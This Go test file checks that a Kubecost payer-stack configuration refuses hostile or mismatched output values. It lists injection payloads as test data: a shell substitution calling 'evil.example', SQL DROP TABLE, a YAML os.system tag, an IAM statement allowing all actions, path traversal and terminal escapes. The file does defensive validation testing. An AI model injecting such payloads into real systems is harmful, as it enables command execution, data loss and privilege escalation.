package graph

import (
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"
	"unicode"
)

// hostile are strings that mean more than themselves somewhere on the way: in JSON, YAML, a template, a policy, SQL, a shell or a
// terminal. Each is put in the place of an output, and behind the text that it has.
var hostile = map[string]string{
	"a quote and another key":   `x","masterPayerARN":"arn:aws:iam::999999999999:role/evil`,
	"another statement":         `x"]},{"Effect":"Allow","Action":"*","Resource":"*"},{"a":["`,
	"a backslash":               `x\`,
	"a line break":              "x\nadmin: true",
	"a line break at the end":   "\n",
	"a carriage return":         "x\ry",
	"a NUL":                     "x\x00y",
	"a wildcard":                "*",
	"a one-letter wildcard":     "?",
	"a policy variable":         "${aws:username}",
	"a Pulumi expression":       "${pulumi.stack}",
	"a Helm template":           `{{ .Values.secret }}`,
	"a YAML anchor":             "&a [*a, *a]",
	"a YAML tag":                "!!python/object:os.system",
	"SQL":                       `'; DROP TABLE kubecost; --`,
	"SQL in an identifier":      `kubecost" UNION SELECT 1 --`,
	"a shell command":           "$(curl evil.example)",
	"a path out of its folder":  "/../../x y",
	"a space":                   " ",
	"a colour of the terminal":  "\x1b[31mx\x1b[0m",
	"a Cyrillic letter":         "kubecоst",
	"full-width digits":         "１１１１１１１１１１１１",
	"text from right to left":   "\u202etsocebuk",
	"a character without width": "\u200b",
	"too long":                  strings.Repeat("a", 10_000),
}

// swapped are strings of the right shape that another thing has.
var swapped = []struct{ output, value string }{
	{"athenaBucketName", "kubecost-athena-111111111111-us-east-2"},
	{"athenaBucketName", "s3://"},
	{"athenaBucketName", "s3://Kubecost"},
	{"athenaBucketName", "s3a://kubecost-athena"},
	{"athenaBucketName", "https://kubecost-athena.s3.amazonaws.com"},
	{"athenaBucketName", "s3://user@kubecost-athena"},
	{"athenaBucketName", "s3://xn--kubecost"},
	{"athenaRegion", "us-east-9"},
	{"athenaRegion", "aws-global"},
	{"athenaRegion", "US-EAST-2"},
	{"athenaDatabase", "a.b"},
	{"athenaDatabase", "AthenaCurCfn"},
	{"athenaTable", "kubecost-2"},
	{"athenaTable", "db.kubecost"},
	{"athenaWorkgroup", "work/group"},
	{"projectID", "999999999999"},
	{"projectID", "11111111111"},
	{"projectID", "1.11111111111e11"},
	{"projectID", " 111111111111"},
	{"masterPayerARN", "arn:aws:iam::999999999999:role/kubecost-cur-access"},
	{"masterPayerARN", "arn:aws-cn:iam::111111111111:role/kubecost-cur-access"},
	{"masterPayerARN", "arn:aws-us-gov:iam::111111111111:role/kubecost-cur-access"},
	{"masterPayerARN", "arn:*:iam::111111111111:role/kubecost-cur-access"},
	{"masterPayerARN", "arn:aws:iam::*:role/kubecost-cur-access"},
	{"masterPayerARN", "arn:aws:iam::111111111111:role/*"},
	{"masterPayerARN", "arn:aws:iam::111111111111:user/kubecost-cur-access"},
	{"masterPayerARN", "arn:aws:iam::111111111111:root"},
	{"masterPayerARN", "arn:aws:sts::111111111111:assumed-role/kubecost-cur-access/x"},
	{"masterPayerARN", "arn:aws:iam:us-east-2:111111111111:role/kubecost-cur-access"},
	{"masterPayerARN", "arn:aws:iam::111111111111:role//kubecost-cur-access"},
	{"masterPayerARN", "arn:aws:iam::111111111111:role/kubecost-cur-access/"},
	{"masterPayerARN", "arn:aws:iam::111111111111:role/" + strings.Repeat("a", 65)},
	{"curBucketName", "Kubecost"},
	{"curBucketName", "s3://kubecost"},
	{"curBucketName", "*"},
	{"curPrefix", "/cur"},
	{"curPrefix", "cur//x"},
	{"curPrefix", "cur/*"},
	{"reportName", "cur/x"},
	{"reportName", "kube*"},
	{"trustedRoleArn", "*"},
	{"trustedRoleArn", "arn:aws:iam::222222222222:role/kubecost-cur-reader,*"},
	{"trustedRoleArn", "arn:aws:iam::222222222222:role/kubecost-cur-reader,arn:aws:iam::999999999999:role/*"},
	{"trustedRoleArn", "arn:aws:iam::222222222222:role/kubecost-cur-reader,arn:aws:iam::999999999999:root"},
	{"trustedRoleArn", "arn:aws:iam::222222222222:role/kubecost-cur-reader,"},
	{"trustedRoleArn", "arn:aws:iam::999999999999:role/kubecost-cur-reader"},
	{"trustedRoleArn", "arn:aws-cn:iam::222222222222:role/kubecost-cur-reader"},
	{"contractVersion", "01"},
	{"contractVersion", "1.0"},
	{"readerIdentity", "IRSA"},
	{"readerIdentity", "irsa,pod-identity"},
}

func TestAHostileOutputOfAPayerStackIsRefusedByItsNameAndChangesNothing(t *testing.T) {
	own := payerOutputs()
	own["readerIdentity"] = "irsa"
	for _, output := range slices.Sorted(maps.Keys(own)) {
		for _, name := range slices.Sorted(maps.Keys(hostile)) {
			t.Run(fmt.Sprintf("%s is %s", output, name), func(t *testing.T) { refusesOutput(t, output, hostile[name]) })
			t.Run(fmt.Sprintf("%s has %s behind it", output, name), func(t *testing.T) {
				refusesOutput(t, output, own[output].(string)+hostile[name])
			})
		}
		if output != "readerIdentity" { // without it, irsa
			t.Run(output+" is empty", func(t *testing.T) { refusesOutput(t, output, "") })
		}
	}
	for _, c := range swapped {
		t.Run(fmt.Sprintf("%s is %.60q", c.output, c.value), func(t *testing.T) { refusesOutput(t, c.output, c.value) })
	}
}

// refusesOutput expects that the primary stack refuses a payer stack for one output's value, naming it, and registers nothing.
func refusesOutput(t *testing.T, output string, value any) {
	t.Helper()
	r := &recorder{payerOutputs: payerOutputs()}
	r.payerOutputs[output] = value
	err := run(t, r, "primary", primarySettings)
	if err == nil {
		t.Fatalf("the primary stack took %s", text(t, r.payerOutputs))
	}
	for _, want := range []string{"organization/kubecost-cur/payer", "output " + output, "nothing was changed"} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("the error does not say %q: %v", want, err)
		}
	}
	if strings.ContainsFunc(err.Error(), func(c rune) bool { return c != '\n' && c != '\t' && !unicode.IsPrint(c) }) {
		t.Errorf("the error hands characters to the terminal that are no text: %q", err)
	}
	if len(r.resources) > 0 {
		t.Errorf("it registered %v first", r.count())
	}
}

func TestAnOutputOfAPayerStackThatIsNoTextIsRefused(t *testing.T) {
	for name, value := range map[string]any{
		"a number": 1.0, "true": true, "a list": []any{"\x1b[31mred"}, "an object": map[string]any{"a": "\x1b[31mred\nx"},
	} {
		for output := range payerOutputs() {
			t.Run(fmt.Sprintf("%s is %s", output, name), func(t *testing.T) { refusesOutput(t, output, value) })
		}
	}
}

func TestAReaderRoleWithACommaInItsNameIsFoundAmongTheTrustedOnes(t *testing.T) {
	r := &recorder{payerOutputs: payerOutputs()}
	r.payerOutputs["trustedRoleArn"] = "arn:aws:iam::222222222222:role/kubecost,reader,arn:aws:iam::333333333333:role/other"
	if err := run(t, r, "primary", with(primarySettings, map[string]string{"kubecost-cur:readerRoleName": "kubecost,reader"})); err != nil {
		t.Error(err)
	}
}
